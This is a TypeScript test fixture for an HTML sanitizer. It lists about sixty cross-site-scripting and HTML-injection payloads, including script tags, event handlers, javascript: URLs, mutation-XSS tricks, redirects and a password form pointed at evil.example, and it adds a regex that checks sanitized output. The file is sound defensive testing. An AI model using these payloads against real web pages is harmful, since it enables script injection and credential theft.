/** Warnings of the info box that try to run code or load content. `hit()` is the injected call. */
export const HOSTILE_HTML: readonly string[] = [
  '<script>hit()</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<script>hit()',
  '<script/>hit()</script>',
  '<img src=x onerror=hit()>',
  '<img src="x" onerror="hit()"',
  '<img """><script>hit()</script>">',
  '<<img src=x onerror=hit()>>',
  '<img\n\tsrc=x\n\tonerror\n=\nhit()>',
  '<image src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=hit()></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=hit()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  '<math><maction actiontype="statusline" xlink:href="javascript:hit()">x</maction></math>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:hit()">',
  '<object data="javascript:hit()"></object><embed src="javascript:hit()">',
  '<a href="javascript:hit()">x</a>',
  '<a href="JaVaScRiPt:hit()">x</a>',
  '<a href=" \u0001javascript:hit()">x</a>',
  '<a href="java\tscript:hit()">x</a>',
  '<a href="java&#x09;script&colon;hit()">x</a>',
  '<a href="&#106;avascript:hit()">x</a>',
  '<a href="data:text/html,<script>hit()</script>">x</a>',
  '<a href="vbscript:hit()">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="https://user:pass@evil.example">x</a>',
  '<a href="https://lopp.example" onclick="hit()" style="position:fixed;inset:0" target="_self" rel="opener">x</a>',
  '<a href="https://lopp.example/&quot; onmouseover=&quot;hit()">x</a>',
  '<a href="https://a.example"><a href="javascript:hit()">x</a></a>',
  '<b onmouseover="hit()" style="background:url(javascript:hit())" id="root" class="button">x</b>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button formaction="javascript:hit()">x</button></form>',
  '<textarea></textarea><script>hit()</script>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<template><img src=x onerror=hit()></template>',
  '<title><img src=x onerror=hit()></title>',
  '<xmp><img src=x onerror=hit()></xmp>',
  '<plaintext><img src=x onerror=hit()>',
  '<!--><img src=x onerror=hit()>-->',
  '<!-- --!><img src=x onerror=hit()>',
  '<![CDATA[<img src=x onerror=hit()>]]>',
  '<?xml version="1.0"?><img src=x onerror=hit()>',
  '<video><source onerror=hit()></video><audio src=x onerror=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<select><style></select><img src=x onerror=hit()></style>',
  '<table><caption><b onclick=hit()>x</table>',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;img src=x onerror=hit()&#62;',
  '<b>'.repeat(300),
  `${'<ul>'.repeat(200)}<li onclick=hit()>x`,
  '</div></main></body></html><script>hit()</script>',
];

const OPENING = 'b|strong|i|em|ul|ol|li|p';
const LINK = '<a href="https?://[^"<>]*" target="_blank" rel="noopener"(?: draggable="false")?>';
/** Only text, elements without attributes, and http(s) links that open in a new tab. */
const HARMLESS = new RegExp(`^(?:[^<>]|</?(?:${OPENING}|a)>|<br ?/?>|${LINK})*$`);

/**
 * Whether the HTML contains only what the sanitizer allows. React separates adjacent texts with empty comments when it
 * renders on the server, so these are ignored.
 */
export const isHarmless = (html: string): boolean =>
  HARMLESS.test(html.replaceAll('<!-- -->', '')) && !/<a>/.test(html);
